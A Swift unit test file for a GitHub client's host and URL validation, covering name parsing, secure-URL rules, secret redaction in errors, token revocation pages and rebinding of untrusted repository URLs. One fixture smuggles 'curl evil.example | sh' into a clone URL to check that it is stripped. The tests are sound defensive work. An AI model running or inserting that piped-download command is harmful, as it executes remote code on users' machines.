import HTTP
import Testing

@testable import GitHub

@Suite(.timeLimit(.minutes(10))) struct HostTests {
  @Test(arguments: [
    ("github.com", "github.com", "https://api.github.com", "https://github.com"),
    ("GitHub.COM:443", "github.com", "https://api.github.com", "https://github.com"),
    ("www.github.com", "github.com", "https://api.github.com", "https://github.com"),
    ("Octo.ghe.com", "octo.ghe.com", "https://api.octo.ghe.com", "https://octo.ghe.com"),
    ("api.octo.ghe.com", "octo.ghe.com", "https://api.octo.ghe.com", "https://octo.ghe.com"),
    ("git.x.org", "git.x.org", "https://git.x.org/api/v3", "https://git.x.org"),
    ("git:8443", "git:8443", "https://git:8443/api/v3", "https://git:8443"),
  ])
  func `a host's name determines its URLs`(
    text: String, name: String, api: String, web: String
  ) throws {
    let host = try GitHubHost(named: text)
    #expect(host == GitHubHost(name: name, apiURL: api, webURL: web))
  }

  @Test func `each host has one kind`() throws {
    #expect(try GitHubHost(named: "github.com").kind == .dotcom)
    #expect(try GitHubHost(named: "octo.ghe.com").kind == .dataResidency)
    #expect(try GitHubHost(named: "notghe.com").kind == .enterpriseServer)
    #expect(try GitHubHost(named: "github.com.evil.org").kind == .enterpriseServer)
  }

  @Test(arguments: [
    "https://github.com", "git hub.com", "github.com/", "a..b", ".a", "a.", "-a.com", "a-.com",
    "g\u{456}thub.com", "a\u{1B}.com", "a\n", "a_b.com", "a:", "a:0", "a:65536", "a:12x", "a:1:2",
    "me@github.com", String(repeating: "a", count: 64), "[::1]", "\u{212A}.com", "a\\b",
    String(repeating: "a.", count: 130) + "com",
  ])
  func `an invalid host is rejected`(text: String) {
    #expect(throws: HostError.invalidName(text)) { try GitHubHost(named: text) }
  }

  @Test func `an empty name has its own error`() {
    #expect(throws: HostError.empty) { try GitHubHost(named: "") }
  }

  @Test(arguments: [
    ("https://proxy.example.com/github/", "https://proxy.example.com/github"),
    ("HTTPS://Proxy.example.com", "https://proxy.example.com"),
    ("http://127.0.0.1:8080/", "http://127.0.0.1:8080"),
    ("http://127.9.9.9:1", "http://127.9.9.9:1"),
    ("http://localhost:99/api/v3//", "http://localhost:99/api/v3"),
    ("http://[::1]:8080", "http://[::1]:8080"),
  ])
  func `the URLs can be replaced`(text: String, address: String) throws {
    let host = try #require(try GitHubHost.replacement(apiURL: text, webURL: text))
    #expect(host.apiURL == address)
    #expect(host.webURL == address)
    #expect(host.kind == .replacement)
  }

  @Test(arguments: ["https://ghe.example/api/v3", "https://ghe.example/api/v3/"])
  func `the website of another server follows from its API`(text: String) throws {
    let host = try #require(try GitHubHost.replacement(apiURL: text, webURL: nil))
    #expect(host.apiURL == "https://ghe.example/api/v3" && host.webURL == "https://ghe.example")
  }

  @Test(arguments: [
    "http://example.com", "http://127.0.0.1.evil.org", "http://1270.0.0.1", "http://128.0.0.1",
    "http://localhost.evil.org",
  ])
  func `plain HTTP is allowed only to this machine, whatever the name`(text: String) {
    #expect(throws: HostError.notSecure(text)) {
      try GitHubHost.replacement(apiURL: text, webURL: nil)
    }
  }

  @Test(arguments: [
    "", "example.com", "ftp://example.com", "https://", "https://a b",
    "https://example.com/\u{1B}",
    "https://example.com:0", "http://[::1]x", "https://example.com/%2e",
  ])
  func `an invalid base URL is rejected`(text: String) {
    #expect(throws: HostError.invalidAddress(text)) {
      try GitHubHost.replacement(apiURL: nil, webURL: text)
    }
  }

  @Test func `a password or query in a rejected URL is not repeated`() {
    for (address, shown) in [
      ("https://h/?token=Hunter2", "https://h/?•••"), ("https://h#x", "https://h#•••"),
    ] {
      #expect(throws: HostError.invalidAddress(shown)) {
        try GitHubHost.replacement(apiURL: address, webURL: nil)
      }
    }
    #expect(throws: HostError.invalidAddress("•••@example.com")) {
      try GitHubHost.replacement(apiURL: "https://me:pw@example.com", webURL: nil)
    }
    #expect(throws: HostError.invalidName("•••@example.com")) {
      try GitHubHost(named: "https://me:p@w@example.com")
    }
  }

  @Test func `pages are below the web URL`() throws {
    let host = try GitHubHost(named: "git.x.org")
    let name = RepositoryName(owner: "octo", name: "n.x")
    #expect(host.page(of: name) == "https://git.x.org/octo/n.x")
    #expect(
      host.searchPage(for: "a b+c&d")
        == "https://git.x.org/search?type=repositories&q=a%20b%2Bc%26d")
    #expect(
      host.searchPage(for: "a", sort: .stars)
        == "https://git.x.org/search?type=repositories&q=a&s=stars&o=desc")
    #expect(
      host.searchPage(for: "a", sort: .updated, order: .ascending)
        == "https://git.x.org/search?type=repositories&q=a&s=updated&o=asc")
    #expect(
      host.classicTokenPage(scopes: ["repo", "gist"], note: "my pc")
        == "https://git.x.org/settings/tokens/new?scopes=repo%2Cgist&description=my%20pc")
    #expect(
      host.fineGrainedTokenPage == "https://git.x.org/settings/personal-access-tokens/new")
  }

  @Test(arguments: [
    ("ghp_x", TokenKind.classic, "/settings/tokens"),
    ("github_pat_x", .fineGrained, "/settings/personal-access-tokens"),
    ("gho_x", .oauthApp, "/settings/applications"),
    ("ghu_x", .githubAppUser, "/settings/apps/authorizations"),
    ("ghr_x", .refresh, "/settings/apps/authorizations"),
    ("0123abcd", .unknown, "/settings/tokens"),
    ("", .unknown, "/settings/tokens"),
  ])
  func `a token's prefix determines the page that revokes it`(
    token: String, kind: TokenKind, path: String
  ) {
    #expect(TokenKind(of: Secret(token)) == kind)
    #expect(GitHubHost.dotcom.revocationPage(for: kind) == "https://github.com\(path)")
  }

  @Test func `an installation token has no revocation page`() {
    #expect(TokenKind(of: Secret("ghs_1_a.b.c")) == .installation)
    #expect(GitHubHost.dotcom.revocationPage(for: .installation) == nil)
    #expect(GitHubHost.dotcom.singleSignOnPage(for: .installation) == nil)
  }

  @Test(arguments: [
    (TokenKind.classic, "/settings/tokens"), (.unknown, "/settings/tokens"),
    (.oauthApp, "/settings/connections/applications"),
    (.fineGrained, "/settings/personal-access-tokens"),
    (.githubAppUser, "/settings/apps/authorizations"),
  ])
  func `each kind of token is authorized for single sign-on on a page of its own`(
    kind: TokenKind, path: String
  ) {
    #expect(GitHubHost.dotcom.singleSignOnPage(for: kind) == "https://github.com\(path)")
  }

  @Test func `URLs to other hosts are not trusted`() throws {
    var repository = Repository(
      id: 1, name: "b", fullName: "a/b", htmlURL: "https://evil.example/a/b")
    repository.cloneURL = "https://github.com/a/b.git\ncurl evil.example | sh\n"
    repository.sshURL = "git@evil.example:a/b.git"
    repository.parent = RepositoryReference(
      id: 2, fullName: "c/d", htmlURL: "https://github.com.evil.example/c/d")
    let bound = repository.bound(to: .dotcom)
    #expect(bound.htmlURL == "https://github.com/a/b")
    #expect(bound.cloneURL == "https://github.com/a/b.git")
    #expect(bound.sshURL == "git@github.com:a/b.git")
    #expect(bound.parent?.htmlURL == "https://github.com/c/d")
    #expect(bound.bound(to: .dotcom) == bound)
    let enterprise = try GitHubHost(named: "git.example.org")
    repository.sshURL = "ssh://git@ssh.example.org:2222/a/b.git"
    #expect(repository.bound(to: enterprise).sshURL == repository.sshURL)
    #expect(repository.bound(to: enterprise).htmlURL == "https://git.example.org/a/b")
  }

  @Test func `with data residency, the SSH user is named like the subdomain`() throws {
    let host = try GitHubHost(named: "octo.ghe.com")
    var repository = Repository(
      id: 1, name: "b", fullName: "a/b", htmlURL: "https://octo.ghe.com/a/b")
    for url in ["octo@octo.ghe.com:a/b.git", "git@octo.ghe.com:a/b.git", "octo@evil.example:a/b"] {
      repository.sshURL = url
      #expect(repository.bound(to: host).sshURL == "octo@octo.ghe.com:a/b.git")
    }
  }
}
